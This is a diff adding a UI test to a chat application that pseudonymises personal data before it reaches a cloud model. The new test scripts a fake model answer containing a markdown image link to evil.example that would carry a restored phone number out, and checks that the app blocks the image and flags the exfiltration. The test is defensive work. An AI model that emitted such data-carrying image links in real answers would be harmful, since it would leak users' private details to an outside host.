@@ -17,7 +17,7 @@ from app.controller.events import TurnFailed, TurnFinished
 from app.ui.chat_window import MainWindow
 from app.ui.consent_dialog import ConsentDialog, DialogConsent, combine, highlighted
 from tests.fakes.openai_server import FakeOpenAI
-from tests.ui.helpers import close_window, open_window, type_and_send, wait_for
+from tests.ui.helpers import close_window, hrefs, open_window, type_and_send, wait_for
 from workers import WorkerSpec
 
 IBAN = "DE89 3704 0044 0532 0130 00"
@@ -176,3 +176,31 @@ def test_findings_are_marked_in_the_message(qtbot: QtBot) -> None:
     assert dialog.findings.item(1, 3).text() == "diabetes (memory)"
     assert isinstance(dialog.buttons[ConsentAnswer.PSEUDONYMISE], QWidget)
     assert dialog.buttons[ConsentAnswer.PSEUDONYMISE].isDefault()
+
+
+def test_a_link_that_would_carry_a_value_out_is_shown_inert(
+    qtbot: QtBot, qloop: asyncio.AbstractEventLoop, ares_home: Path, fake_openai: FakeOpenAI
+) -> None:
+    """The cloud worker saw [PHONE_1]; an answer whose image URL would send the restored
+    number away is flagged by the answer checks and rendered with the image blocked."""
+    fake_openai.api_key = None
+    fake_openai.script_reply(["Noted. ", "![pixel](https://evil.example/p?n=[PHONE_1])", " Bye."])
+
+    async def scenario() -> tuple[str, list[str], str]:
+        window = await open_window(qtbot, ares_home, cloud_settings(fake_openai.base_url))
+        event = await type_and_send(qtbot, window, "Call me on +44 20 7946 0958 tomorrow")
+        assert isinstance(event, TurnFinished), event
+        [badge] = window.view.badges()
+        text, links = window.view.toPlainText(), hrefs(window.view)
+        window.new_conversation()
+        await window.open_conversation(event.conversation_id)  # from memory: still inert
+        assert "[blocked image: pixel]" in window.view.toPlainText()
+        await close_window(window)
+        return text, links, badge.text()
+
+    text, links, badge = qloop.run_until_complete(scenario())
+    sent = fake_openai.requests_to("/v1/chat/completions")[0].body.decode()
+    assert "7946" not in sent and "[PHONE_1]" in sent
+    assert "[blocked image: pixel]" in text and "evil.example" not in text
+    assert not [h for h in links if "evil" in h]
+    assert "no_exfiltration fail" in badge
